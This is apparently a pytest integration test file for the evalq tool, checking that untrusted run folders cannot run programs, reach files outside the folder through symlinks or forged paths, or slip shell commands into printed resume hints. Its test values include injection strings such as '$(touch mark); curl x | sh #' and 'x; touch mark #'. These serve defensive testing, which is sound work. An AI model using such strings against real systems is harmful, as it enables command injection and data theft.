"""Run folders that somebody else made: a CI artifact, a colleague's, one in a checkout. Nothing in them is run or read
that this machine's user did not name.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from pathlib import Path
from typing import Any, NamedTuple

import pytest

import evalq as api
from evalq.evalcore.errors import EvalqError
from evalq.producer.folder.own_runs import record, roots_of, state_folder
from evalq.producer.folder.run_folder import RunFolder
from tests.integration.harness import evalq

SECRET = "the words of a private file"  # noqa: S105 - nobody's
CASES = {"cases": [{"id": name, "input": name, "checks": [{"contains": name}]} for name in "ab"]}


class Art(NamedTuple):
    """A folder with two runs that somebody else began there: one whose budget ended it, and one that is done."""

    folder: Path
    ran: Path

    def calls(self) -> int:
        """How often the program of the other's targets file was run."""
        return self.ran.read_text().count("ran") if self.ran.exists() else 0


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The runs as their maker has them."""
    folder = tmp_path_factory.mktemp("made")
    (folder / "evil").mkdir()
    program = f"import sys; open({str(folder / 'ran')!r}, 'a').write('ran '); print(sys.stdin.read())"
    target = {"kind": "command", "argv": [sys.executable, "-c", program], "output": "text"}
    (folder / "evil" / "t.yaml").write_text(json.dumps({"targets": {"t": target}}))
    (folder / "cases.json").write_text(json.dumps(CASES))
    args = ("checks", "cases.json", "--target", "t", "--targets", "evil/t.yaml", "--format", "none")
    for out, more in (("spent", ("--max-calls", "1")), ("done", ())):
        done = evalq(*args, "--out", f"evalq-runs/{out}", *more, cwd=folder, XDG_STATE_HOME=str(folder / "state"))
        assert done.returncode in (0, 3), done.stderr
    for run in ("spent", "done"):
        info = folder / "evalq-runs" / run / "run.json"
        # As evalq wrote it before it kept this in the user's own state.
        info.write_text(json.dumps({**json.loads(info.read_text()), "targets": str(folder / "evil" / "t.yaml")}))
    return folder


@pytest.fixture
def art(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Art:
    """What a user of another machine finds, in the current folder."""
    here = tmp_path / "here"
    here.mkdir()
    shutil.copytree(made / "evalq-runs", here / "evalq-runs")
    shutil.copy(made / "cases.json", here)
    (made / "ran").unlink(missing_ok=True)
    monkeypatch.chdir(here)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    for name in [name for name in os.environ if name.startswith("EVALQ_")]:
        monkeypatch.delenv(name)
    return Art(here, made / "ran")


COMMANDS: dict[str, tuple[str, ...]] = {
    "resume": ("resume", "evalq-runs/spent", "--max-calls", "9"),
    "resume the latest": ("resume", "--max-calls", "9"),
    "retry": ("retry", "evalq-runs/spent", "--errors"),
    "extend": ("extend", "evalq-runs/done", "--repeat", "3"),
    "extend to another target": ("extend", "evalq-runs/done", "--target", "t[x=1]"),
    "watch": ("watch", "evalq-runs/spent"),
    "report": ("report", "evalq-runs/done"),
    "status": ("status",),
    "list": ("list",),
    "compare": ("compare", "evalq-runs/done", "evalq-runs/done"),
    "reuse": ("checks", "cases.json", "--target", "t", "--reuse", "evalq-runs/done", "--max-calls", "9"),
    "once": ("checks", "cases.json", "--target", "t", "--out", "evalq-runs/spent"),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_no_command_runs_what_a_run_folder_names(art: Art, name: str) -> None:
    """It names a targets file, whose target is a program: whoever reads the folder does not start it."""
    if name == "resume the latest":
        shutil.rmtree("evalq-runs/done")
    more = () if name in ("status", "list") else ("--format", "none")
    done = evalq(*COMMANDS[name], *more, cwd=art.folder)
    assert art.calls() == 0
    assert "Traceback" not in done.stderr
    if name.startswith(("resume", "retry", "extend")):
        assert done.returncode == 2, done.stderr
        assert "--targets FILE" in done.stderr


def test_python_runs_nothing_either(art: Art) -> None:
    """`evalq.resume` and `evalq.extend` are the same commands."""
    with pytest.raises(EvalqError, match="targets file"):
        api.resume("evalq-runs/spent", max_calls=9)
    with pytest.raises(EvalqError, match="targets file"):
        api.extend("evalq-runs/done", repeat=3)
    assert art.calls() == 0


def test_a_targets_file_on_the_command_line_is_used(art: Art) -> None:
    """The user's own program answers, and the one that the folder names does not."""
    target = {"kind": "command", "argv": [sys.executable, "-c", "print(input()[:0] + 'mine a b')"], "output": "text"}
    Path("mine.yaml").write_text(json.dumps({"targets": {"t": target}}))
    args = ("resume", "evalq-runs/spent", "--max-calls", "9", "--format", "none")
    done = evalq(*args, "--targets", "mine.yaml", cwd=art.folder)
    assert done.returncode in (0, 3), done.stderr
    assert art.calls() == 0
    assert "mine" in Path("evalq-runs/spent/outputs.jsonl").read_text()


def _forged(run: Path, **facts: Any) -> None:
    info = run / "run.json"
    info.write_text(json.dumps({**json.loads(info.read_text()), **facts}))


def _head(run: Path, *, live: dict[str, Any] | None = None, **facts: Any) -> None:
    path = next(run / name for name in ("sweep.json", "asked.json") if (run / name).exists())
    head = json.loads(path.read_text())
    path.write_text(json.dumps({**head, **facts, "live": {**head["live"], **(live or {})}}))


HOW = (
    *("input", "pattern", "option", "patterns of an option", "folder", "source", "cache", "reuse", "export", "link"),
    *("outputs", "further", "spool", "follows"),
)
"""How a run folder names what is not in it."""


@pytest.mark.parametrize("command", ["resume", "extend"])
@pytest.mark.parametrize("how", HOW)
def test_no_run_folder_has_a_file_read_or_written_elsewhere(art: Art, tmp_path: Path, command: str, how: str) -> None:
    """Inputs, golden sets, options, caches and exports that lie outside: refused by name, and left as they are."""
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "private.jsonl"
    secret.write_text(json.dumps({"case": "a", "output": SECRET}) + "\n")
    run = art.folder / "evalq-runs" / ("spent" if command == "resume" else "done")
    request = json.loads((run / "run.json").read_text())["request"]
    wrong = str(secret)
    if how == "input":
        _head(run, request={**request, "inputs": [wrong]})
    elif how == "pattern":
        _head(run, request={**request, "inputs": [str(outside / "priv*.jsonl")]})
    elif how == "patterns of an option":
        _head(run, request={**request, "options": {"outputs": [str(outside / "*.jsonl")]}})
    elif how == "folder":
        (run / "in").mkdir()
        (run / "in" / "x.jsonl").symlink_to(secret)
        _head(run, request={**request, "inputs": [str(run / "in")]})
    elif how in ("outputs", "further", "spool"):
        link = run / {"outputs": "outputs.jsonl"}.get(how, how)
        link.unlink(missing_ok=True)
        link.symlink_to(secret if how == "outputs" else outside)
    elif how == "option":
        _head(run, request={**request, "options": {"outputs": [wrong]}})
    elif how == "source":
        (run / "manifest.jsonl").touch()  # planned, so that its inputs would be read as they stand there
        _forged(run, sources=[{"name": "x", "given": "x", "path": wrong}])
    elif how == "cache":
        wrong = str(outside / "cache.sqlite")
        _head(run, live={"cache": wrong})
    elif how == "reuse":
        shutil.copytree(art.folder / "evalq-runs" / "done", outside / "run")
        _head(run, live={"reuse": [str(outside / "run")]})
    elif how == "export":
        wrong = str(outside / "metrics.json")
        (run / "manifest.jsonl").touch()
        _forged(run, request={**request, "options": {"out": wrong}})
    elif how == "link":
        (run / "inner.jsonl").symlink_to(secret)
        _head(run, request={**request, "inputs": [str(run / "inner.jsonl")]})
    else:
        _forged(run, follows=wrong)
    before = sorted(path.name for path in outside.iterdir())
    Path("mine.yaml").write_text(json.dumps({"targets": {"t": {"kind": "command", "argv": ["cat"], "output": "text"}}}))
    args = {"resume": ("resume", str(run), "--max-calls", "9"), "extend": ("extend", str(run), "--repeat", "3")}[
        command
    ]
    done = evalq(*args, "--targets", "mine.yaml", "--format", "none", cwd=art.folder)
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert "a run folder does not choose the path" in done.stderr
    assert SECRET not in done.stdout + done.stderr
    assert sorted(path.name for path in outside.iterdir()) == before
    assert not [path for path in art.folder.rglob("*") if path.is_file() and SECRET in path.read_text(errors="ignore")
                and not path.is_symlink()]  # fmt: skip


@pytest.mark.parametrize("ending", ["jsonl", "csv", "html", "compare"])
def test_no_output_holds_what_a_link_for_the_records_leads_to(art: Art, tmp_path: Path, ending: str) -> None:
    """A report that is written again would carry a file of its reader's; a link within the current folder is read."""
    secret, run = tmp_path / "secret.jsonl", art.folder / "evalq-runs" / "done"
    records = run / "records.jsonl"
    records.rename(secret)
    records.symlink_to(secret)
    (run / "cases.json").unlink(missing_ok=True)
    report = ("report", str(run), "-o", f"copy.{ending}", "--format", "none")
    args = ("compare", str(run), str(run)) if ending == "compare" else report
    done = evalq(*args, cwd=art.folder)
    assert (done.returncode, "a run folder does not choose the path" in done.stderr) == (2, True), done.stderr
    assert not Path(f"copy.{ending}").exists()
    secret.rename(art.folder / "secret.jsonl")
    records.unlink()
    records.symlink_to(art.folder / "secret.jsonl")
    assert evalq(*args, cwd=art.folder).returncode == 0


@pytest.mark.parametrize(
    ("server", "shown"),
    [
        ("$(touch mark); curl x | sh #", "--broker URL"),
        ("--broker '$(touch mark)'", "--broker '$(touch mark)'"),
        ("--broker redis://h:1/0 --ledger redis://h:2/0", "--broker redis://h:1/0 --ledger redis://h:2/0"),
        ("--broker redis://h:1/0; touch mark", "--broker URL"),
        ("--broker redis://h:1/0;touch", "--broker 'redis://h:1/0;touch'"),
        ("--targets evil/t.yaml", "--broker URL"),
        ("--broker 'x", "--broker URL"),
        ("--broker redis://h:1/0\ntouch mark", "--broker URL"),
    ],
)
def test_a_command_to_copy_holds_no_other_command(art: Art, server: str, shown: str) -> None:
    """What run.json says of its server stands there as options, or not at all."""
    run = art.folder / "evalq-runs" / "spent"
    _forged(run, server=server, state="calling")
    assert RunFolder(run).info().server == shown
    done = evalq("resume", "evalq-runs/spent", "--max-calls", "9", "--format", "none", cwd=art.folder)
    assert done.returncode == 2, done.stderr
    assert f"evalq resume evalq-runs/spent {shown} (or another" in done.stderr


def test_a_folder_to_change_to_is_one_word(art: Art) -> None:
    """The folder where a sweep was begun stands in a command, too."""
    run = art.folder / "evalq-runs" / "done"
    request = json.loads((run / "run.json").read_text())["request"]
    there = art.folder / "x; touch mark #"
    for exists in (False, True):
        if exists:
            there.mkdir()
        _head(run, cwd=str(there), request={**request, "inputs": ["nowhere.json"]})
        done = evalq("extend", str(run), "--repeat", "3", "--targets", "mine.yaml", "--format", "none", cwd=art.folder)
        assert f"'{there}'" in done.stderr, done.stderr
        assert (f"cd '{there}'" in done.stderr) == exists, "of another machine there is nowhere to change to"


def test_workers_read_under_no_root_that_a_folder_names(art: Art) -> None:
    """Those of run.json count where the run was begun here, or below the current folder."""
    run = RunFolder(art.folder / "evalq-runs" / "done")
    _forged(run.path, roots=["/", "/etc", str(art.folder), str(art.folder / ".."), str(run.path)])
    assert roots_of(run) == [str(art.folder), str(run.path)]
    record(run)
    assert roots_of(run)[0] == "/", "its user began it, by the note in the state folder"


def test_a_machine_may_allow_a_folder(art: Art, tmp_path: Path) -> None:
    """By its setting `roots`."""
    run = art.folder / "evalq-runs" / "done"
    request = json.loads((run / "run.json").read_text())["request"]
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy("cases.json", outside / "cases.json")
    _head(run, request={**request, "options": {"labels": str(outside / "cases.json")}})
    args = ("extend", str(run), "--repeat", "3", "--targets", "mine.yaml", "--dry-run")
    Path("mine.yaml").write_text(json.dumps({"targets": {"t": {"kind": "command", "argv": ["cat"], "output": "text"}}}))
    assert "does not choose the path" in evalq(*args, cwd=art.folder).stderr
    allowed = evalq(*args, cwd=art.folder, EVALQ_ROOTS=str(outside))
    assert "does not choose the path" not in allowed.stderr


def test_ones_own_run_goes_on_without_a_word(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its user named the targets file when it began: that one is used, unless it is another file by now."""
    monkeypatch.chdir(tmp_path)
    Path("cases.json").write_text(json.dumps(CASES))
    Path("t.yaml").write_text(json.dumps({"targets": {"t": {"kind": "command", "argv": ["cat"], "output": "text"}}}))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    args = ("checks", "cases.json", "--target", "t", "--targets", "t.yaml", "--format", "none")
    assert evalq(*args, "--max-calls", "1", "--out", "run", cwd=tmp_path).returncode in (0, 3)
    note = next((tmp_path / "state" / "evalq" / "runs").iterdir())
    modes = [oct(path.stat().st_mode & 0o777) for path in (note, note.parent, note.parent.parent)]
    assert modes == ["0o600", "0o700", "0o700"]
    before = Path("t.yaml").read_text()
    Path("t.yaml").write_text(before.replace("cat", "tac"))
    changed = evalq("resume", "run", "--max-calls", "9", "--format", "none", cwd=tmp_path)
    assert (changed.returncode, "has changed since" in changed.stderr) == (2, True), changed.stderr
    Path("t.yaml").write_text(before)
    for spoil in (0o777, 0o666):  # somebody else may have written there
        note.chmod(spoil)
        refused = evalq("resume", "run", "--max-calls", "9", "--format", "none", cwd=tmp_path)
        assert (refused.returncode, "--targets FILE" in refused.stderr) == (2, True), refused.stderr
    note.chmod(0o600)
    done = evalq("resume", "run", "--max-calls", "9", "--format", "none", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert len(Path("run/outputs.jsonl").read_text().splitlines()) == 2


def test_the_state_folder_is_the_users(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A relative XDG_STATE_HOME, which the specification ignores, would be the checkout's."""
    monkeypatch.setenv("HOME", str(tmp_path))
    for given, is_default in (("state", True), ("", True), (str(tmp_path / "x"), False)):
        monkeypatch.setenv("XDG_STATE_HOME", given)
        default = tmp_path / ".local" / "state" / "evalq"
        assert state_folder() == (default if is_default else tmp_path / "x" / "evalq")
